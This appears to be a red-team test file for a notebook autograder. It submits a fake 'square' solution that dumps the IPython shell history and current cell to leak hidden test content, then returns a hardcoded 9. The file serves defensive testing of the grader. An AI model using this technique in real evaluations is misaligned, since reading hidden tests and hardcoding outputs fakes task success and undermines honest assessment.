"""During a test, the shell's history and the running cell are read.

Success: the canary of the hidden tests.
"""

from tests.red_team.submission import SHOW


def attack(submission):
    submission.answer(
        "square",
        SHOW
        + """
def square(x):
    shell = get_ipython()
    show(shell.user_ns.get("In"))
    show(shell.history_manager.input_hist_raw)
    show(list(shell.history_manager.get_range(raw=True)))
    show(shell.user_ns.get("_i"))
    return 9
""",
    )
